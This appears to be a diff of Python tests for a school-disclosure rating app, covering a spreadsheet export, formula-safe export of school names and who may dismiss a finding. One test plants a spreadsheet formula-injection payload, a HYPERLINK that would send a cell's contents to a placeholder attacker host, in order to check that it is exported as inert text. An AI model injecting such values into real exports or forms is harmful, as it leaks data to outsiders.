@@ -45,9 +45,22 @@ def test_the_rating_ranks_schools_with_a_chart_and_an_export(app, checked, login
     sheet = load_workbook(io.BytesIO(export.data)).active
     values = [[c.value for c in row] for row in sheet.iter_rows()]
     assert values[0][0] == "г. Кировск"
-    assert values[1][:4] == ["Place", "School", "Website", "Score"]
-    assert [(r[0], r[1], r[3], r[4], r[5], r[6]) for r in values[2:]] == [
+    assert values[1][:5] == ["Place", "School", "Website", "Score", "Score before false alarms"]
+    assert [(r[0], r[1], r[3], r[5], r[6], r[7]) for r in values[2:]] == [
         (1, "СОШ № 2", 100.0, 8, 8, 0), (2, "СОШ № 5", 85.2, 7, 8, 1), (3, "СОШ № 10", 83.9, 7, 8, 0)]
+
+
+def test_a_school_name_that_looks_like_a_formula_is_exported_as_text(app, checked, login, raw_sql):
+    """Names come from tenants' own input: the inspector's spreadsheet never runs them."""
+    formula = '=HYPERLINK("http://evil.example/?"&B3,"СОШ № 10")'
+    raw_sql("UPDATE tenant SET name = :n WHERE id = :i", n=formula, i=checked["schools"][2]["id"])
+    http = signed_in(app, login, checked["admin"])
+    export = http.get(f"/disclosure/tenants/{checked['municipality']['id']}/rating.xlsx", headers=EN)
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(export.data)).active
+    cell = next(row[1] for row in sheet.iter_rows(min_row=3) if row[1].value == formula)
+    assert cell.data_type == "s"
 
 
 def test_the_rating_page_costs_the_same_queries_whatever_the_number_of_schools(
@@ -110,14 +123,18 @@ def test_the_reason_error_is_in_russian(app, checked, login, as_platform):
 
 def test_a_dismissed_fault_shows_its_reason_and_can_be_withdrawn(app, checked, login, as_platform):
     school = checked["schools"][2]
-    http = signed_in(app, login, checked["school_admin"])
+    own = signed_in(app, login, checked["school_admin"])
     finding_id = fault(as_platform, school["id"])
+    assert own.post(f"/disclosure/findings/{finding_id}/dismissal", data={"reason": "всё есть"}).status_code == 403
+    assert "False alarm?" not in own.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
+    http = signed_in(app, login, checked["admin"])
     done = http.post(f"/disclosure/findings/{finding_id}/dismissal",
                      data={"reason": "Регламент на странице «Документы», проверено вручную"})
     assert done.status_code == 302 and done.headers["Location"].endswith(f"#finding-{finding_id}")
+    html = own.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
+    assert 'data-finding="item:service_regulation" class="dismissed"' in html  # the school sees the decision
+    assert "False alarm (checked by hand)" in html and "проверено вручную" in html and "Kirovsk" in html
     html = http.get(f"/disclosure/schools/{school['id']}", headers=EN).get_data(as_text=True)
-    assert 'data-finding="item:service_regulation" class="dismissed"' in html
-    assert "False alarm (checked by hand)" in html and "проверено вручную" in html and "School10" in html
     assert "Withdraw" in html
     with as_platform():
         dismissal_id = db.session.execute(select(Dismissal.id)).scalar_one()
